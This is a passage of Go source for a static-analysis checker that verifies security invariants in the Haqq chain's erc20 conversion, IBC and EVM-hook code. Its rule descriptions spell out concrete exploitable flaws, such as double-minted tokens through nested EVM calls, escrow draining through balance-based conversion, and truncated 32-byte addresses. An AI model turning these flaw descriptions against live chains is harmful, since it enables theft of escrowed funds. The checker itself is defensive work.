	r.Rule("R9", "PATH.approval-monitor-scans-every-log: monitorApprovalEvent compares the first topic of every log of the call with the Approval signature hash — from the start of the loop body the next log (or the nil return) is reachable only over the not-equal edge of that comparison, except over an edge on which the log has no topics at all; no filter on the number of topics or on the emitting address decides which logs are looked at (a token is free to declare Approval without indexed arguments)")
	if ma, ok := P.FnOK("(x/erc20/keeper.Keeper).monitorApprovalEvent"); ok {
		isTopic0 := func(v ssa.Value) bool {
			return backSlice(v).HasField("Log", "Topics")
		}
		_, ne := condEdges(ma, func(x, y ssa.Value) bool {
			return isTopic0(x) && backSlice(y).HasCall(func(g CallInfo) bool { return g.Name == "Keccak256Hash" }) ||
				isTopic0(y) && backSlice(x).HasCall(func(g CallInfo) bool { return g.Name == "Keccak256Hash" })
		})
		noTopics, _ := condEdges(ma, func(x, y ssa.Value) bool {
			c, ok := stripValue(x).(*ssa.Call)
			if !ok {
				return false
			}
			b, ok := c.Call.Value.(*ssa.Builtin)
			n, okc := constInt(y)
			return ok && b.Name() == "len" && okc && n == 0 && isTopic0(c.Call.Args[0])
		})
		okScan := len(ne) > 0
		var wit []string
		nLoops := 0
		for _, hd := range ma.Blocks {
			if !isLoopHeader(hd) {
				continue
			}
			nLoops++
			body := loopBody(hd)
			for _, sc := range hd.Succs {
				if !body[sc] || sc == hd {
					continue
				}
				w := PathQuery{Fn: ma, StartBlock: sc, Target: func(in ssa.Instruction) bool {
					return in.Block() == hd && in == hd.Instrs[0]
				}, DelEdge: edgeSet(append(append([]Edge{}, ne...), noTopics...))}.Search()
				if w != nil {
					okScan = false
					wit = P.witness(w)
				}
			}
		}
		r.Check(okScan && nLoops == 1, "R9", fnID(ma)+"#scans-every-log", P.Pos(fnPos(ma)), "every log's first topic is compared with the Approval signature", "monitorApprovalEvent can move on to the next log without having compared this log's first topic with the Approval signature (a filter on the number of topics or similar): an Approval event in a shape the filter skips goes unnoticed and the conversion succeeds", wit...)
	} else {
		r.Bad("R9", "anchor/monitorApprovalEvent", "", "not found")
	}
	r.Rule("R10", "REACH.pair-lookup-is-a-keyed-read: GetTokenPairID — the lookup every conversion, the IBC receive path and the EVM hook use to decide which pair a coin or token belongs to — and the erc20 keeper functions it calls read only the erc20 module's own store under a key for the given token: no call on another module's keeper (transfer, bank, account, EVM) and no scan over all pairs; a lookup that falls back to 'the pair of a similar asset' mints tokens of one pair against escrowed coins of another denomination")
	if gp, ok := P.FnOK("(" + erc20K + ".Keeper).GetTokenPairID"); ok {
		bad := ""
		nCalls := 0
		for fn := range moduleReach(P, gp, 3) {
			if !pathHasSuffix(fnPkgPath(fn), "x/erc20/keeper") {
				continue
			}
			eachCall(fn, func(ci CallInfo) {
				nCalls++
				foreign := false
				if ci.Instr.Common().IsInvoke() {
					if n := namedName(ci.Instr.Common().Value.Type()); strings.HasSuffix(n, "Keeper") {
						foreign = true
					}
				} else if strings.HasSuffix(ci.PkgPath, "/keeper") && !pathHasSuffix(ci.PkgPath, "x/erc20/keeper") {
					foreign = true
				}
				if ci.Name == "Iterator" || ci.Name == "ReverseIterator" || ci.Name == "KVStorePrefixIterator" || ci.Name == "IterateTokenPairs" || ci.Name == "GetTokenPairs" {
					foreign = true
				}
				if foreign && bad == "" {
					bad = ci.String() + " at " + P.Pos(instrPos(ci.Instr))
				}
			})
		}
		r.Check(bad == "" && nCalls >= 3, "R10", fnID(gp)+"#keyed-read-only", P.Pos(fnPos(gp)), fmt.Sprintf("%d calls below GetTokenPairID, none on another keeper, none iterating", nCalls),
			"the pair lookup consults "+bad+": the pair is no longer decided by the given token's own registry entry, so a coin or token that is not registered can resolve to another asset's pair (tokens minted against an escrow of a different denomination)")
	} else {
		r.Bad("R10", "anchor/GetTokenPairID", "", "not found")
	}
	r.Rule("R11", "REACH.no-nested-evm-under-a-precompile: a precompile handler runs while the calling transaction's StateDB holds cached balances and contract storage; a second EVM execution on the same SDK context (the erc20 keeper's CallEVM → EVM keeper ApplyMessage, with a StateDB of its own that is committed straight to the context) changes token-contract storage behind that cache, and the outer StateDB's final Commit writes its stale slots over it. No handler of a wired precompile reaches CallEVM / CallEVMWithData / ApplyMessage* — the ICS-20 precompile's transfer does, through the transfer keeper's automatic ERC20→coin conversion: the burn of the converted tokens is overwritten and the tokens exist twice")
	{
		sc := scopesOf(r)
		nH := 0
		for _, m := range wiredPrecompiles(r) {
			if !m.Stateful {
				continue
			}
			for _, h := range m.Handlers {
				if h.Fn == nil || !h.IsTx {
					continue
				}
				nH++
				rs := sc.G.Reach(map[*ssa.Function]string{h.Fn: "handler"}, nil)
				var hit *ssa.Function
				for _, f := range rs.HaqqFuncs() {
					if pathHasSuffix(fnPkgPath(f), "x/evm/keeper") && strings.HasPrefix(f.Name(), "ApplyMessage") {
						if hit == nil || fnID(f) < fnID(hit) {
							hit = f
						}
					}
				}
				if hit == nil {
					r.OK("R11", fnID(h.Fn)+"#no-nested-evm", P.Pos(fnPos(h.Fn)), "no EVM execution reachable")
					continue
				}
				r.Bad("R11", fnID(h.Fn)+"#no-nested-evm", P.Pos(fnPos(h.Fn)), "the handler can start a second EVM execution on the same context: token-contract storage changed by it (a burn during ERC20→coin conversion) is overwritten by the calling transaction's cached slots at its final Commit — converted tokens stay with the holder although the coins left the escrow", rs.Chain(hit)...)
			}
		}
		r.Floor("R11", "transaction handlers of wired precompiles", nH, 15)
	}
	r.Rule("R12", "OWN.committing-evm-calls: the token side of every pair is changed only by the conversions — a committing EVM call from Haqq code (CallEVM / CallEVMWithData with commit = true, or forwarding its own commit parameter) appears only in the tabled functions: convertCoinNativeCoin (mint), convertERC20NativeCoin (burnCoins), convertCoinNativeERC20 (transfer out of the escrow), convertERC20NativeToken (transfer into the escrow), PostTxProcessing (burn of tokens sent to the module), DeployERC20Contract, the bank wrapper's subUnlockedERC20Tokens (the holder's own transfer), and CallEVM forwarding to CallEVMWithData. A new site — a housekeeping burn of the module's balance, a mint on registration — moves tokens with no coin counterpart; for an ERC20-origin pair the module's balance IS the escrow")
	{
		allowed := map[string]string{
			"(" + erc20K + ".Keeper).convertCoinNativeCoin":                 "mint for escrowed coins",
			"(" + erc20K + ".Keeper).convertERC20NativeCoin":                "burn for released coins",
			"(" + erc20K + ".Keeper).convertCoinNativeERC20":                "release from the escrow for burned coins",
			"(" + erc20K + ".Keeper).convertERC20NativeToken":               "escrow for minted coins",
			"(" + erc20K + ".Keeper).PostTxProcessing":                      "burn of tokens transferred to the module (coins are released)",
			"(" + erc20K + ".Keeper).DeployERC20Contract":                   "contract creation for a coin-origin pair",
			"(" + erc20K + ".Keeper).CallEVM":                               "forwards its commit parameter",
			"(x/bank/keeper.msgServer).subUnlockedERC20Tokens":              "the sender's own token transfer (bank send wrapper)",
			"(x/bank/keeper.msgServer).sendERC20Tokens":                     "the sender's own token transfer (bank send wrapper)",
		}
		nC := 0
		for _, fn := range P.Funcs {
			if isTestSupport(P, fn) || fn.Synthetic != "" || strings.Contains(fnPkgPath(fn), "/testutil") {
				continue
			}
			owner := fnID(outermost(fn))
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.Name != "CallEVM" && ci.Name != "CallEVMWithData" {
					return
				}
				// the commit flag is the bool argument
				var commit ssa.Value
				for _, a := range ci.Instr.Common().Args {
					if b, ok := a.Type().Underlying().(*types.Basic); ok && b.Kind() == types.Bool {
						commit = a
					}
				}
				if commit == nil {
					return
				}
				if c, ok := commit.(*ssa.Const); ok && !constBool(c) {
					return // a read
				}
				nC++
				idx++
				why, ok := allowed[owner]
				r.Check(ok, "R12", fmt.Sprintf("%s#committing-evm-call-%d", owner, idx), P.Pos(instrPos(ci.Instr)), "tabled: "+why,
					"a committing EVM call from a function that is not one of the conversions: it changes token balances or supply of a pair's contract (a burn of the module's balance, a mint, a transfer out of the escrow) with no matching change on the coin side — for an ERC20-origin pair the module's token balance is the backing of the coin supply")
			})
		}
		r.Floor("R12", "committing EVM calls in Haqq code", nC, 7)
	}
	r.Rule("R13", "OWN.amounts-are-values: an sdk.Int / sdk.Dec is handed around by value but shares its big.Int with every copy; BigIntMut() hands that shared number out for in-place arithmetic. No function of x/erc20, the bank wrapper, x/liquidvesting, x/ucdao or the precompiles calls it — an 'allocation-free' post-condition check (escrow before + amount, computed in place) silently changes the amount of the coins that are minted and sent a few lines later, and of the message itself")
	{
		nFn, bad := 0, 0
		for _, fn := range P.Funcs {
			pk := fnPkgPath(fn)
			if isTestSupport(P, fn) || fn.Synthetic != "" || !isHaqqPath(pk) || strings.Contains(pk, "/testutil") || strings.HasPrefix(strings.TrimPrefix(pk, haqqMod+"/"), "rpc") || strings.HasPrefix(strings.TrimPrefix(pk, haqqMod+"/"), "cmd") {
				continue
			}
			nFn++
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.Name == "BigIntMut" {
					// reading through the shared number (x.BigIntMut().Sign()) changes nothing: only a use that can write
					// to it or lets it escape (a mutating big.Int method, an argument, a return, a store) is reported
					if v, isV := ci.Instr.(ssa.Value); isV && v.Referrers() != nil {
						readOnly := true
						for _, ref := range *v.Referrers() {
							rc, isCall := ref.(ssa.CallInstruction)
							if !isCall {
								if _, isDbg := ref.(*ssa.DebugRef); isDbg {
									continue
								}
								readOnly = false
								continue
							}
							rci := callInfo(rc)
							isRecv := len(rc.Common().Args) > 0 && rc.Common().Args[0] == v && rci.PkgPath == "math/big" && rci.Recv == "Int"
							if !isRecv || bigMutators[rci.Name] {
								readOnly = false
							}
							for _, a := range rc.Common().Args[1:] {
								if a == v {
									readOnly = false
								}
							}
						}
						if readOnly {
							return
						}
					}
					idx++
					bad++
					r.Bad("R13", fmt.Sprintf("%s#BigIntMut-%d", fnID(fn), idx), P.Pos(instrPos(ci.Instr)), "the function takes the shared, mutable big.Int out of an sdk.Int/Dec: arithmetic on it changes every copy of the amount — the coins minted or sent afterwards, the message's own amount field")
				}
			})
		}
		if bad == 0 {
			r.OK("R13", "amount-handling packages#no-BigIntMut", "", fmt.Sprintf("%d functions, none takes the mutable number out of an amount", nFn))
		}
		r.Floor("R13", "functions of the amount-handling packages", nFn, 1500)
	}
	r.Rule("R14", "FLOW.automatic-conversion-is-bounded-by-the-packet + TABLE.genesis-duplicates-by-decoded-address: (a) the conversion that runs automatically on an IBC receive converts what the packet delivered — the coin of the MsgConvertCoin built in OnRecvPacket derives from the packet's own amount (GetReceivedCoin) and not from a balance read: the receiver is chosen by the remote sender, and a channel's escrow account is an ordinary, unblocked account, so 'the receiver's whole balance' lets one unit sent to the escrow address convert the entire escrow and strand every outstanding voucher; (b) the erc20 genesis recognises a duplicated contract by its decoded address (a map keyed by common.Address), not by the address string as spelled")
	if rp, ok := P.FnOK("(" + erc20K + ".Keeper).OnRecvPacket"); ok {
		nMsg := 0
		eachCall(rp, func(ci CallInfo) {
			if ci.Name != "NewMsgConvertCoin" {
				return
			}
			nMsg++
			sl := backSlice(argN(ci.Instr, 0))
			fromBalance := sl.HasCall(func(g CallInfo) bool { return g.Name == "GetBalance" || g.Name == "GetAllBalances" || g.Name == "SpendableCoins" })
			fromPacket := sl.HasCall(func(g CallInfo) bool { return g.Name == "GetReceivedCoin" })
			r.Check(fromPacket && !fromBalance, "R14", fnID(rp)+"#converts-the-received-amount", P.Pos(instrPos(ci.Instr)), "the converted coin is the packet's coin",
				"OnRecvPacket converts the receiver's whole balance of the denomination, not the received amount; the receiver is named by the remote sender and may be a channel escrow account (not a module account, not blocked)")
		})
		r.Floor("R14", "MsgConvertCoin built in OnRecvPacket", nMsg, 1)
	} else {
		r.Bad("R14", "anchor/erc20 OnRecvPacket", "", "not found")
	}
	if gv, ok := P.FnOK("(x/erc20/types.GenesisState).Validate"); ok && gv.Synthetic == "" {
		okKey, nAddr := true, 0
		eachInstr(gv, func(in ssa.Instruction) {
			lk, ok := in.(*ssa.Lookup)
			if !ok {
				return
			}
			mt, isMap := lk.X.Type().Underlying().(*types.Map)
			if !isMap {
				return
			}
			sl := backSlice(lk.Index)
			if namedName(mt.Key()) == "Address" && sl.HasCall(func(g CallInfo) bool { return g.Name == "GetERC20Contract" || g.Name == "HexToAddress" }) {
				nAddr++
			}
			if sl.HasField("TokenPair", "Erc20Address") && namedName(mt.Key()) != "Address" {
				okKey = false
			}
		})
		r.Check(okKey && nAddr >= 1, "R14", fnID(gv)+"#contracts-by-decoded-address", P.Pos(fnPos(gv)), "the duplicate-contract test is keyed by common.Address",
			"the erc20 genesis validation looks a pair's contract up by the address string as spelled (or not at all): the same contract in checksum case and lower case passes as two contracts, InitGenesis stores two pairs for it and coins of one denomination redeem the other's escrow")
	} else {
		r.Bad("R14", "anchor/erc20 GenesisState.Validate", "", "not found")
	}
	r.Rule("R17", "see C05 R4 (imported): the post-transaction hook mints on the Transfer logs of the receipt, so the log list must shrink with every reverted frame — each log is a journal entry whose revert removes exactly that log; a revert that truncates to the wrong length (the newest snapshot's instead of the reverted one's) leaves the Transfer log of an undone token transfer in the receipt and the hook mints coins with nothing escrowed")
	r.Import("R17/C05.", []string{"R4"}, runC05)
	r.Rule("R16", "PATH.automatic-conversions-need-an-evm-address: the conversions that run without the holder's own conversion message (IBC receive, IBC refund on error/timeout, the bank send wrapper) name the ERC20 holder with common.BytesToAddress, which keeps the last 20 bytes of whatever it is given; each of their ConvertCoin calls is therefore reachable only over the edge on which len(address) == 20 — in the function itself or in every same-package caller. Interchain accounts hosted on the chain (and every address.Module/Derive account) have 32-byte addresses: the holder is debited, the tokens land at an unrelated address, and the operation reports success")
	{
		lenOf := func(x ssa.Value) (ssa.Value, bool) {
			c, ok := stripValue(x).(*ssa.Call)
			if !ok {
				return nil, false
			}
			b, ok := c.Call.Value.(*ssa.Builtin)
			if !ok || b.Name() != "len" {
				return nil, false
			}
			return stripValue(c.Call.Args[0]), true
		}
		// the account addresses a call works for: AccAddress-typed parameters / call results in the slice of its arguments
		involved := func(call ssa.CallInstruction) []ssa.Value {
			var out []ssa.Value
			seen := map[ssa.Value]bool{}
			backSlice(call.Common().Args...).Any(func(v ssa.Value) bool {
				if namedName(v.Type()) != "AccAddress" || seen[v] {
					return false
				}
				switch v.(type) {
				case *ssa.Parameter, *ssa.Call, *ssa.Extract:
					seen[v] = true
					out = append(out, v)
				}
				return false
			})
			return out
		}
		guarded := func(f *ssa.Function, target ssa.CallInstruction) bool {
			inv := involved(target)
			if len(inv) == 0 {
				return false
			}
			for _, a := range inv {
				eq, _ := condEdges(f, func(x, y ssa.Value) bool {
					root, ok := lenOf(x)
					if !ok || root != a {
						return false
					}
					nn, okc := constInt(y)
					return okc && nn == 20
				})
				if len(eq) == 0 {
					return false
				}
				if (PathQuery{Fn: f, Target: func(x ssa.Instruction) bool { return x == target.(ssa.Instruction) }, DelEdge: edgeSet(eq)}).Search() != nil {
					return false
				}
			}
			return true
		}
		nSites := 0
		for _, fn := range P.Funcs {
			pp := fnPkgPath(fn)
			if !isHaqqPath(pp) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			auto := (pathHasSuffix(pp, "x/erc20/keeper") && strings.HasSuffix(P.FileOf(fnPos(outermost(fn))), "ibc_callbacks.go")) || pathHasSuffix(pp, "x/bank/keeper")
			if !auto {
				continue
			}
			idx := 0
			eachCall(fn, func(ci CallInfo) {
				if ci.Name != "ConvertCoin" {
					return
				}
				idx++
				nSites++
				ok := guarded(fn, ci.Instr)
				via := "in the function"
				if !ok {
					// every same-package static caller guards its call of fn
					nCallers, allGuard := 0, true
					for _, g := range P.Funcs {
						if fnPkgPath(g) != pp || isTestSupport(P, g) || g.Synthetic != "" {
							continue
						}
						eachCall(g, func(cj CallInfo) {
							if cj.Static == fn {
								nCallers++
								if !guarded(g, cj.Instr) {
									allGuard = false
								}
							}
						})
					}
					ok = nCallers > 0 && allGuard
					via = fmt.Sprintf("in each of its %d same-package callers", nCallers)
				}
				r.Check(ok, "R16", fmt.Sprintf("%s#ConvertCoin-%d-needs-a-20-byte-holder", fnID(fn), idx), P.Pos(instrPos(ci.Instr)), "reachable only where len(address) == 20 ("+via+")",
					"an automatic conversion is reachable for a holder whose address is not 20 bytes long: 10 uosmo sent over IBC to an interchain account (32-byte address) leave the account with 0 coins and put 10 tokens at the unrelated truncated address; a bank MsgSend of 100 of a registered coin to a 32-byte address returns no error, debits the sender and credits nobody who can spend")
			})
		}
		r.Floor("R16", "automatic ConvertCoin sites (IBC callbacks, bank send wrapper)", nSites, 3)
	}
	r.Rule("R15", "ERR.a-failed-step-fails-the-conversion: every conversion debits one side first and credits the other afterwards, so a step whose error does not stop it leaves a credit without its debit. (a) In the four conversion functions and their two entry points a non-nil error of any Context-taking keeper / Haqq call reaches only failure exits (a `:=` that shadows the function's err, an assignment without return, lose it); (b) in the EVM hook, whose errors skip the log instead of failing the transaction, the failing side of the internal `burn` call's error cannot reach the payout of that same log (the shadowed-err slip: the test after the switch looks at another variable)")
	{
		var fns []*ssa.Function
		for _, n := range []string{"convertCoinNativeCoin", "convertCoinNativeERC20", "convertERC20NativeCoin", "convertERC20NativeToken", "ConvertCoin", "ConvertERC20"} {
			if fn, ok := P.FnOK("(" + erc20K + ".Keeper)." + n); ok {
				fns = append(fns, fn)
			} else {
				r.Bad("R15", "anchor/"+n, "", "conversion function not found")
			}
		}
		n := checkErrorsFailTheMessage(r, "R15", fns, "the conversion goes on after a failed step — escrowed coins that could not be burned stay while the tokens have left the escrow, tokens are minted for coins that were not escrowed")
		r.Floor("R15", "error-returning steps in the conversion functions", n, 10)
		if hk, ok := P.FnOK("(" + erc20K + ".Keeper).PostTxProcessing"); ok {
			isPay := isCallMatching(func(ci CallInfo) bool { return ci.Name == "SendCoinsFromModuleToAccount" })
			nB := 0
			eachCall(hk, func(ci CallInfo) {
				if ci.Name != "CallEVM" || !strArg(ci.Instr, "burn") {
					return
				}
				nB++
				edges := errEdges(ci.Instr)
				if len(edges) == 0 {
					// the error joins other branches' errors in a phi before it is tested
					if ev := errResultOf(ci.Instr); ev != nil {
						for _, b := range hk.Blocks {
							iff, isIf := lastIf(b)
							if !isIf {
								continue
							}
							bo, isB := iff.Cond.(*ssa.BinOp)
							if !isB || !(bo.Op == token.NEQ || bo.Op == token.EQL) || !(isNilConst(bo.X) || isNilConst(bo.Y)) {
								continue
							}
							other := bo.X
							if isNilConst(bo.X) {
								other = bo.Y
							}
							if ph, isPhi := other.(*ssa.Phi); isPhi && backSlice(ph).Has(ev) {
								if bo.Op == token.NEQ {
									edges = append(edges, Edge{b, 0})
								} else {
									edges = append(edges, Edge{b, 1})
								}
							}
						}
					}
				}
				var wit []ssa.Instruction
				loopHead := innermostLoop(ci.Instr.Block())
				for _, e := range edges {
					q := PathQuery{Fn: hk, StartBlock: e.From.Succs[e.Succ], Target: isPay}
					if loopHead != nil {
						q.Block = func(x ssa.Instruction) bool { return x == loopHead.Instrs[0] }
					}
					if w := q.Search(); w != nil {
						wit = w
					}
				}
				r.Check(len(edges) > 0 && wit == nil, "R15", fmt.Sprintf("%s#failed-burn-pays-nothing-%d", fnID(hk), nB), P.Pos(instrPos(ci.Instr)), "from the failing side of the burn's error the payout of the same log is unreachable",
					"after the internal burn of the tokens sent to the module failed, the hook can still pay the escrowed coins out for that log: the tokens stay in circulation and the coins leave the escrow — supply exceeds the backing", P.witness(wit)...)
			})
			r.Floor("R15", "internal burn calls in the EVM hook", nB, 1)
		}
	}
	r.Rule("R6", "PATH+FLOW.hook-guards: in PostTxProcessing the payout (MintCoins / CallEVM burn / SendCoinsFromModuleToAccount) is reachable only over the passing edges of: hook enabled (EnableErc20, EnableEVMHook), event name == Transfer, positive amount, registered pair found, recipient topic == ModuleAddress, pair.Enabled; the coin amount derives from the event data, the denom from the pair, the payee from topic 1, the burned contract is the log's address")
	if fn, ok := P.FnOK("(" + erc20K + ".Keeper).PostTxProcessing"); ok {
		isPayout := isCallMatching(func(ci CallInfo) bool {
			switch ci.Name {
			case "MintCoins", "SendCoinsFromModuleToAccount":
				return ci.Invoke
			case "CallEVM":
				return true
			}
			return false
		})
		nPay := 0
		eachInstr(fn, func(in ssa.Instruction) {
			if isPayout(in) {
				nPay++
			}
		})
		r.Floor("R6", "payout calls in PostTxProcessing", nPay, 3)
		type g struct {
			name, bad string
			m         condMatch
		}
		fieldCond := func(sn, f string) condMatch {
			return func(cond ssa.Value) (bool, bool) {
				return true, isFieldLoad(cond, sn, f)
			}
		}
		guards := []g{
			{"enable-erc20", "with the erc20 module disabled", fieldCond("Params", "EnableErc20")},
			{"enable-evm-hook", "with the EVM hook disabled", fieldCond("Params", "EnableEVMHook")},
			{"pair-enabled", "for a disabled token pair", fieldCond("TokenPair", "Enabled")},
			{"event-is-transfer", "for an event that is not Transfer", func(cond ssa.Value) (bool, bool) {
				isEq, x, y, ok := asEquality(cond)
				if !ok {
					return false, false
				}
				for _, pr := range [][2]ssa.Value{{x, y}, {y, x}} {
					if sv, ok := constString(pr[1]); ok && sv == "Transfer" && backSlice(pr[0]).HasField("Event", "Name") {
						return isEq, true
					}
				}
				return false, false
			}},
			{"recipient-is-module", "for tokens sent to any address (not only the module's)", func(cond ssa.Value) (bool, bool) {
				c, ok := cond.(*ssa.Call)
				if !ok {
					return false, false
				}
				ci := callInfo(c)
				if ci.Name != "Equal" || ci.PkgPath != "bytes" {
					isEq, x, y, ok := asEquality(cond)
					if !ok {
						return false, false
					}
					sx, sy := backSlice(x), backSlice(y)
					a := sx.HasField("Log", "Topics") && sy.Has(moduleAddrGlobal(P))
					b := sy.HasField("Log", "Topics") && sx.Has(moduleAddrGlobal(P))
					return isEq, a || b
				}
				s0, s1 := backSlice(c.Call.Args[0]), backSlice(c.Call.Args[1])
				mg := moduleAddrGlobal(P)
				a := s0.HasField("Log", "Topics") && s1.Has(mg)
				b := s1.HasField("Log", "Topics") && s0.Has(mg)
				return true, mg != nil && (a || b)
			}},
			{"pair-found", "for a contract that is not a registered token pair", func(cond ssa.Value) (bool, bool) {
				// the comma-ok result of GetTokenPair
				if e, ok := cond.(*ssa.Extract); ok && e.Index == 1 {
					if c, ok := e.Tuple.(*ssa.Call); ok && callInfo(c).Name == "GetTokenPair" {
						return true, true
					}
				}
				return false, false
			}},
			{"amount-positive", "for a non-positive or malformed amount", func(cond ssa.Value) (bool, bool) {
				b, ok := cond.(*ssa.BinOp)
				if !ok {
					return false, false
				}
				c, ok := callNamed(b.X, "Sign")
				if !ok {
					return false, false
				}
				_ = c
				n, ok := constInt(b.Y)
				if !ok || n != 1 {
					return false, false
				}
				switch b.Op {
				case token.EQL:
					return true, true
				case token.NEQ:
					return false, true
				}
				return false, false
			}},
		}
		for _, gd := range guards {
			requireGuard(r, "R6", fnID(fn)+"#guard/"+gd.name, fn, gd.m, nil, isPayout, "payout only over the passing edge", "the EVM hook can pay out coins "+gd.bad)
		}
		// provenance of what is paid
		eachCall(fn, func(ci CallInfo) {
			switch {
			case ci.Name == "SendCoinsFromModuleToAccount" && ci.Invoke:
				sl := backSlice(argN(ci.Instr, 3))
				r.Check(sl.HasField("TokenPair", "Denom") && sl.HasCall(func(g CallInfo) bool { return g.Name == "Unpack" }), "R6", fnID(fn)+"#paid-coins", P.Pos(instrPos(ci.Instr)), "paid coins = (pair denom, amount unpacked from the event)", "the coins paid out by the hook do not derive from the pair's denom and the event's amount")
				rs := backSlice(argN(ci.Instr, 2))
				r.Check(rs.HasField("Log", "Topics") && !rs.HasField("Log", "Address"), "R6", fnID(fn)+"#payee", P.Pos(instrPos(ci.Instr)), "payee = topic 1 (the token sender)", "the hook pays someone other than the sender recorded in the Transfer event")
			case ci.Name == "CallEVM":
				okC := false
				for _, a := range ci.Instr.Common().Args {
					if backSlice(a).HasField("Log", "Address") {
						okC = true
					}
				}
				r.Check(okC, "R6", fnID(fn)+"#burn-contract", P.Pos(instrPos(ci.Instr)), "burn is called on the log's contract", "the hook burns on a contract other than the one that emitted the event")
			}
		})
	} else {
		r.Bad("R6", "anchor/PostTxProcessing", "", "not found")
	}

	// ---------- R5 ----------
	if fn, ok := P.FnOK("(" + erc20K + ".Keeper).OnRecvPacket"); ok {
		n := 0
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "ConvertCoin" {
				return
			}
			n++
			okAll := errHandled(ci.Instr)
			for _, e := range errEdges(ci.Instr) {
				w := PathQuery{Fn: fn, StartBlock: e.From.Succs[e.Succ], Target: func(in ssa.Instruction) bool {
					ret, ok := in.(*ssa.Return)
					if !ok {
						return false
					}
					if fn.Recover != nil && ret.Block() == fn.Recover {
						return false
					}
					return !backSlice(retOperands(ret)[0]).HasCall(func(g CallInfo) bool { return g.Name == "NewErrorAcknowledgement" })
				}}.Search()
				if w != nil {
					okAll = false
				}
			}
			if len(errEdges(ci.Instr)) == 0 {
				okAll = false
			}
			r.Check(okAll, "R5", fnID(fn)+"#convert-error-is-error-ack", P.Pos(instrPos(ci.Instr)), "a failed conversion returns an error acknowledgement", "after ConvertCoin failed the callback can return something other than NewErrorAcknowledgement(err): ibc-core would keep the partially applied conversion (coins released without the matching burn/escrow)")
		})
		r.Floor("R5", "ConvertCoin calls in OnRecvPacket", n, 1)
	} else {
		r.Bad("R5", "anchor/OnRecvPacket", "", "erc20 Keeper.OnRecvPacket not found")
	}
	if fn, ok := P.FnOK("(" + erc20K + ".Keeper).ConvertCoinToERC20FromPacket"); ok {
		n := 0
		eachCall(fn, func(ci CallInfo) {
			if ci.Name != "ConvertCoin" {
				return
			}
			n++
			okAll := errHandled(ci.Instr) && len(errEdges(ci.Instr)) > 0
			for _, e := range errEdges(ci.Instr) {
				if w := (PathQuery{Fn: fn, StartBlock: e.From.Succs[e.Succ], Target: isSuccessExit}).Search(); w != nil {
					okAll = false
				}
			}
			r.Check(okAll, "R5", fnID(fn)+"#convert-error-returned", P.Pos(instrPos(ci.Instr)), "a failed conversion is returned as an error", "a failed ConvertCoin on ack/timeout is swallowed")
		})
		r.Floor("R5", "ConvertCoin calls in ConvertCoinToERC20FromPacket", n, 1)
	}
	// private mint paths: IBC callbacks and middleware never mint/burn/send themselves
	for _, id := range []string{"(" + erc20K + ".Keeper).OnRecvPacket", "(" + erc20K + ".Keeper).OnAcknowledgementPacket", "(" + erc20K + ".Keeper).OnTimeoutPacket", "(" + erc20K + ".Keeper).ConvertCoinToERC20FromPacket",
		"(x/erc20.IBCMiddleware).OnRecvPacket", "(x/erc20.IBCMiddleware).OnAcknowledgementPacket", "(x/erc20.IBCMiddleware).OnTimeoutPacket"} {
		fn, ok := P.FnOK(id)
		if !ok {
			r.Bad("R5", "anchor/"+id, "", "not found")
			continue
		}
		bad := ""
		for _, f := range withAnon(fn) {
			eachCall(f, func(ci CallInfo) {
				switch ci.Name {
				case "MintCoins", "BurnCoins", "SendCoins", "SendCoinsFromModuleToAccount", "SendCoinsFromAccountToModule", "CallEVM", "CallEVMWithData":
					bad = ci.Name
				}
			})
		}
		r.Check(bad == "", "R5", fnID(fn)+"#converts-only-through-ConvertCoin", P.Pos(fnPos(fn)), "no private coin/token movement", "the IBC callback moves coins or calls the EVM directly ("+bad+") instead of going through ConvertCoin")
	}
	if fn, ok := P.FnOK("(x/erc20.IBCMiddleware).OnRecvPacket"); ok {
		isApp := isCallMatching(func(ci CallInfo) bool { return ci.Name == "OnRecvPacket" && !pathHasSuffix(ci.PkgPath, erc20K) })
		isKeeper := isCallMatching(func(ci CallInfo) bool { return ci.Name == "OnRecvPacket" && !ci.Invoke && pathHasSuffix(ci.PkgPath, erc20K) })
		w := Precedes(fn, isApp, isKeeper, nil)
		r.Check(w == nil, "R5", fnID(fn)+"#app-first", P.Pos(fnPos(fn)), "wrapped module runs before the conversion", "the conversion can run before the wrapped transfer module received the packet", P.witness(w)...)
		requireGuard(r, "R5", fnID(fn)+"#skip-on-failed-ack", fn, func(cond ssa.Value) (bool, bool) {
			_, ok := callNamed(cond, "Success")
			return true, ok
		}, nil, isKeeper, "conversion only after a successful acknowledgement", "the conversion runs although the wrapped module returned a failed acknowledgement")
	}
	if fn, ok := P.FnOK("(" + erc20K + ".Keeper).OnAcknowledgementPacket"); ok {
		as := typeAssertsToAny(fn, "Acknowledgement_Error")
		okA := len(as) > 0
		isConv := isCallMatching(func(ci CallInfo) bool { return ci.Name == "ConvertCoinToERC20FromPacket" })
		for _, a := range as {
			if w := (PathQuery{Fn: fn, Target: isConv, DelEdge: edgeSet(a.OkEdges)}).Search(); w != nil {
				okA = false
			}
		}
		r.Check(okA, "R5", fnID(fn)+"#refund-only-on-error-ack", P.Pos(fnPos(fn)), "coins are re-converted only for an error acknowledgement", "the refund conversion can run for a successful acknowledgement")
	}
}

func isBoolLoad(v ssa.Value) bool {
	u, ok := v.(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return false
	}
	_, f, ok := fieldOfAddr(u.X)
	return ok && f == "Value"
}

func typeAssertsToAny(fn *ssa.Function, name string) []assertSite {
	var out []assertSite
	eachInstr(fn, func(in ssa.Instruction) {
		ta, ok := in.(*ssa.TypeAssert)
		if !ok || !ta.CommaOk || namedName(ta.AssertedType) != name {
			return
		}
		out = append(out, typeAssertsTo(fn, namedPkgPath(ta.AssertedType), name)...)
	})
	if len(out) > 1 {
		out = out[:1]
	}
	return out
}

// ---------- NILWRAP ----------

// provenNil: v is nil whenever control is in block at (we are past `if v != nil { return }`).
func provenNil(v ssa.Value, at *ssa.BasicBlock) bool {
	if isNilConst(v) {
		return true
	}
	for b := at; b != nil; b = b.Idom() {
		d := b.Idom()
		if d == nil {
			break
		}
		ifi, ok := lastIf(d)
		if !ok {
			continue
		}
		bin, ok := ifi.Cond.(*ssa.BinOp)
		if !ok || (bin.Op != token.NEQ && bin.Op != token.EQL) {
			continue
		}
		var other ssa.Value
		if bin.X == v {
			other = bin.Y
		} else if bin.Y == v {
			other = bin.X
		} else {
			continue
		}
		if !isNilConst(other) {
